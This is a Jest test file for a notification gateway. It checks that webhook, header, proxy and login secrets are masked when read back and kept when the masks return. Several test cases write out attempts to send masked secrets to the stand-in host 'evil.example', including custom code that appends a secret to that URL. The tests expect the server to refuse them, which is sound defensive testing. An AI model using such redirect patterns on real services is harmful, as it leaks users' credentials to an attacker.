import { readdirSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { z } from 'zod';
import { declarations } from '#channels/declarations';
import {
  errorOf,
  idOf,
  member,
  refused,
  taskBody as task,
  webhookBody as webhook,
  type GatewayKit,
  type Reply,
} from './gateway.kit.js';
import { openGateway, type OpenedGateway } from './opened-gateway.kit.js';
import { secretsOfAction, secretsOfFetch, unmasked } from './secrets.js';

/** The settings in the first file of a channel's `golden` folder. */
function goldenConfigOf(type: string): Record<string, unknown> {
  const golden = new URL(`../../libs/channels/${type}/golden/`, import.meta.url);
  const [file = ''] = readdirSync(golden).filter((name) => name !== 'answers.json');
  return z
    .object({ config: z.record(z.string(), z.unknown()) })
    .parse(JSON.parse(readFileSync(new URL(file, golden), 'utf8'))).config;
}

const email = { type: 'email', config: { to: 'me@example.com', subject: 'Hello' } };

let opened: OpenedGateway;
let gateway: GatewayKit;

beforeAll(async () => {
  opened = await openGateway();
  ({ gateway } = opened);
});

afterAll(() => opened.close());

const create = (more?: object): Promise<Reply> => opened.create(more);

describe('secrets', () => {
  it('may have a lone % where they stand in an address', async () => {
    const url = 'https://user:100%@hooks.example/in';
    const made = await create({
      actions: [{ type: 'webhook', config: { url } }],
      fetch: { proxy: 'http://user:100%@proxy.example:3128' },
    });
    expect(member(made.body, 'data', 'actions', 0, 'config', 'url')).toBe('https://user:********@hooks.example/in');
    expect(member(made.body, 'data', 'fetch', 'proxy')).toBe('http://user:********@proxy.example:3128/');
    const body = member(made.body, 'data');
    const again = await gateway.send('PUT', `/api/notifications/${idOf(made)}`, { body });
    expect([again.status, member(again.body, 'data', 'revision')]).toEqual([
      200,
      member(made.body, 'data', 'revision'),
    ]);
  });

  it('are in clear only in the answer that made them, and sealed in what is stored', async () => {
    const made = await create({ actions: [webhook, email] });
    const secret = String(member(made.body, 'data', 'actions', 0, 'config', 'secret'));
    expect(secret).toMatch(/^whsec_[A-Za-z0-9+/]{32}$/);
    const command = JSON.stringify(gateway.commands.at(-1));
    for (const canary of [secret, 'https://example.com/hook', 'me@example.com']) expect(command).not.toContain(canary);
    const shown = await gateway.send('GET', `/api/notifications/${idOf(made)}`);
    expect(member(shown.body, 'data', 'actions', 0, 'config')).toEqual({
      url: 'https://example.com/hook',
      secret: '********',
    });
    expect(member(shown.body, 'data', 'actions', 1, 'config', 'to')).toBe('me@example.com');
  });

  it('are kept when their masks come back, and nothing counts as changed', async () => {
    const made = await create({
      actions: [
        {
          type: 'webhook',
          config: { url: 'https://user:hunter2@example.com/', headers: { 'X-Token': 't0k', Accept: 'x' } },
        },
        { type: 'custom', config: { code: 'return []', secrets: { apiKey: 's3cret' } } },
      ],
      fetch: {
        headers: { Authorization: 'Bearer abc', 'X-Plain': 'shown' },
        proxy: 'http://u:pr0xy@proxy.example:3128',
      },
    });
    const path = `/api/notifications/${idOf(made)}`;
    const shown = await gateway.send('GET', path);
    for (const secret of ['hunter2', 't0k', 's3cret', 'Bearer abc', 'pr0xy']) expect(shown.text).not.toContain(secret);
    expect(member(shown.body, 'data', 'fetch', 'headers')).toEqual({ Authorization: '********', 'X-Plain': 'shown' });
    const same = await gateway.send('PUT', path, { body: member(shown.body, 'data') });
    expect(member(same.body, 'data', 'revision')).toBe(0);
    const renamed = await gateway.send('PATCH', path, { body: { name: 'renamed' } });
    expect(member(renamed.body, 'data', 'revision')).toBe(1);
    const [first, , last] = gateway.commands.slice(-3);
    expect(member(last, 'spec', 'actions')).toEqual(member(first, 'spec', 'actions'));
    expect(member(last, 'spec', 'fetch')).toEqual(member(first, 'spec', 'fetch'));
  });

  it('are not in a header that is none: a mask sent for it is refused by name, and one that is stored stays', async () => {
    const [plain, mask] = [{ 'X-Plain': 'shown' }, '********'];
    const masks = { 'X-Plain': mask };
    const withHeaders = (headers: object) => ({ type: 'webhook', config: { url: 'https://example.com/', headers } });
    const path = `/api/notifications/${idOf(await create({ fetch: { headers: plain }, actions: [withHeaders(plain)] }))}`;
    const read = member((await gateway.send('GET', path)).body, 'data');
    for (const [more, field] of [
      [{ fetch: { headers: masks } }, 'fetch.headers.X-Plain'],
      [{ actions: [withHeaders(masks)] }, 'actions[0].config.headers.X-Plain'],
    ] as const) {
      for (const answer of [
        await gateway.send('PUT', path, { body: Object.assign({}, read, more) }),
        await gateway.send('PATCH', path, { body: more }),
        await gateway.send('POST', '/api/notifications', { body: Object.assign({}, task, more) }),
      ]) {
        expect(errorOf(answer)).toEqual(refused(400, 'VALIDATION_ERROR', 'secret_required'));
        expect(member(answer.body, 'error', 'details', 0, 'field')).toBe(field);
      }
    }
    // As an earlier version stored it.
    expect(unmasked({ headers: masks }, { headers: masks }, secretsOfFetch, ['fetch'])).toEqual({ headers: masks });
  });

  it('are masked in an address that is a template, which stays as it was written', async () => {
    const made = await create({
      actions: [{ type: 'webhook', config: { url: 'https://user:hunter2@example.com/{{ task.id }}?n={{ value }}' } }],
    });
    const path = `/api/notifications/${idOf(made)}`;
    const shown = await gateway.send('GET', path);
    expect(member(shown.body, 'data', 'actions', 0, 'config', 'url')).toBe(
      'https://user:********@example.com/{{ task.id }}?n={{ value }}',
    );
    const same = await gateway.send('PUT', path, { body: member(shown.body, 'data') });
    expect(member(same.body, 'data', 'revision')).toBe(0);
  });

  it('do not follow an address to another host', async () => {
    const made = await create({ actions: [{ type: 'webhook', config: { url: 'https://user:hunter2@example.com/' } }] });
    const id = String(member(made.body, 'data', 'actions', 0, 'id'));
    const actions = [
      { id, type: 'webhook', config: { url: 'https://user:********@evil.example/', secret: '********' } },
    ];
    const reply = await gateway.send('PATCH', `/api/notifications/${idOf(made)}`, { body: { actions } });
    expect(errorOf(reply)).toEqual(refused(400, 'VALIDATION_ERROR', 'secret_required'));
  });

  it.each(declarations.map(({ type }) => type))(
    'of a %s action come back masked, and are kept when they do',
    async (type) => {
      const config = goldenConfigOf(type);
      const made = await create({ actions: [{ type, config }] });
      const path = `/api/notifications/${idOf(made)}`;
      const shown = await gateway.send('GET', path);
      for (const [name] of secretsOfAction(type).writeOnly) {
        const value = typeof name === 'string' ? config[name] : undefined;
        if (typeof value === 'string') expect(shown.text).not.toContain(value);
      }
      const same = await gateway.send('PUT', path, { body: member(shown.body, 'data') });
      expect(member(same.body, 'data', 'revision')).toBe(0);
    },
  );

  it('of an action are kept for the origin they were given for, and asked for again at another', () => {
    const places = secretsOfAction('ntfy');
    const base = { serverUrl: 'https://push.example/', token: 't0k' };
    const sent = (serverUrl: string) => unmasked({ serverUrl, token: '********' }, base, places, ['config']);
    expect(sent('https://push.example/sub')).toEqual({ serverUrl: 'https://push.example/sub', token: 't0k' });
    for (const other of ['https://evil.example/', 'http://push.example/', 'https://{{ task.name }}/']) {
      expect(() => sent(other)).toThrow('send the secret itself');
    }
  });

  it('in a list are kept at their places, and asked for again where the list has another length', () => {
    const places = secretsOfAction('apprise');
    const base = { serverUrl: 'https://apprise.example/', urls: ['json://one', 'json://two'] };
    const sent = (urls: string[]) => unmasked({ ...base, urls }, base, places, ['config']);
    expect(sent(['********', 'json://three'])).toEqual({ ...base, urls: ['json://one', 'json://three'] });
    expect(() => sent(['********'])).toThrow('send the secret itself');
    expect(() => sent(['********', '********', 'json://new'])).toThrow('send the secret itself');
  });

  const customOf = (code: string, secrets: object) => ({ type: 'custom', config: { code, secrets } });
  const code = 'return { url: "https://push.example/", method: "POST", headers: { a: secrets.a } }';
  const elsewhere = `return { url: 'https://evil.example/' + secrets.a, method: 'POST' }`;
  const login = { method: 'POST', body: 'user=a&password=hunter2' };
  it.each<[string, object, object, object]>([
    [
      'a header of a webhook at another origin',
      {
        actions: [
          { ...webhook, config: { url: 'https://hooks.example/a', headers: { Authorization: 'Bearer canary' } } },
        ],
      },
      { actions: [{ ...webhook, config: { url: 'https://evil.example/a', headers: { Authorization: '********' } } }] },
      { actions: [{ ...webhook, config: { url: 'https://hooks.example/b', headers: { Authorization: '********' } } }] },
    ],
    [
      'a secret of custom code in other code',
      { actions: [customOf(code, { a: 'canary' })] },
      { actions: [customOf(elsewhere, { a: '********' })] },
      { name: 'Other', actions: [customOf(code, { a: '********' })] },
    ],
    [
      'a header of the page at another origin',
      { url: 'https://shop.example/', fetch: { headers: { Cookie: 'canary' } } },
      { url: 'https://evil.example/' },
      { url: 'https://shop.example/other' },
    ],
    [
      'a header of the page by another proxy',
      { url: 'http://shop.example/', fetch: { headers: { Cookie: 'canary' } } },
      { fetch: { proxy: 'http://evil.example:3128' } },
      { fetch: { timeoutSeconds: 20 } },
    ],
    [
      'a login in the body of the page’s request at another origin',
      { url: 'https://shop.example/', fetch: login },
      { url: 'https://evil.example/' },
      { url: 'https://shop.example/sign-in' },
    ],
    [
      'a body that was marked as a secret and is to be none',
      { url: 'https://shop.example/', fetch: { method: 'POST', body: 'plain', bodyIsSecret: true } },
      { fetch: { bodyIsSecret: false } },
      { url: 'https://shop.example/sign-in' },
    ],
  ])('are asked for again, and nothing changes: %s', async (_, first, moved, kept) => {
    const made = await create(first);
    expect(made.text).not.toMatch(/canary|hunter2|plain"/);
    const path = `/api/notifications/${idOf(made)}`;
    const ids = (member(made.body, 'data', 'actions') as readonly { readonly id: string }[]).map(({ id }) => id);
    const withIds = (body: object): object =>
      'actions' in body
        ? {
            ...body,
            actions: (body.actions as readonly object[]).map((action, index) => ({ ...action, id: ids[index] })),
          }
        : body;
    const before = await gateway.send('GET', path);
    const refusal = await gateway.send('PATCH', path, { body: withIds(moved) });
    expect(errorOf(refusal)).toEqual(refused(400, 'VALIDATION_ERROR', 'secret_required'));
    expect((await gateway.send('GET', path)).body).toEqual(before.body);
    const reply = await gateway.send('PATCH', path, { body: withIds(kept) });
    expect({ status: reply.status, revision: member(reply.body, 'data', 'revision') }).toEqual({
      status: 200,
      revision: 1,
    });
  });

  it.each([
    ['user=a&password=hunter2', true],
    ['{"login":{"Passwd":"hunter2"}}', true],
    ['<login><apiKey>hunter2</apiKey></login>', true],
    ['client_secret=hunter2', true],
    ['q=password', false],
    ['{"query":"token"}', false],
    ['', false],
  ])('in the body of the page’s request are known by the names of its fields: %j', async (body, isSecret) => {
    const made = await create({ fetch: { method: 'POST', body } });
    expect(member(made.body, 'data', 'fetch', 'body')).toBe(isSecret ? '********' : body);
    const [command] = gateway.commands.slice(-1);
    expect(JSON.stringify(command).includes('hunter2')).toBe(false);
    const path = `/api/notifications/${idOf(made)}`;
    const same = await gateway.send('PUT', path, { body: member((await gateway.send('GET', path)).body, 'data') });
    expect(member(same.body, 'data', 'revision')).toBe(0);
  });

  it('of an action are not made anew when it is sent without', async () => {
    const made = await create({ actions: [webhook] });
    const id = String(member(made.body, 'data', 'actions', 0, 'id'));
    const path = `/api/notifications/${idOf(made)}`;
    const reply = await gateway.send('PUT', path, { body: { ...task, actions: [{ ...webhook, id }] } });
    expect(member(reply.body, 'data', 'revision')).toBe(0);
    const foreign = await gateway.send('PUT', path, {
      body: { ...task, actions: [{ ...webhook, id: 'act_00000000000000000000000000' }] },
    });
    expect(errorOf(foreign)).toEqual(refused(400, 'VALIDATION_ERROR', 'action_unknown'));
  });
});
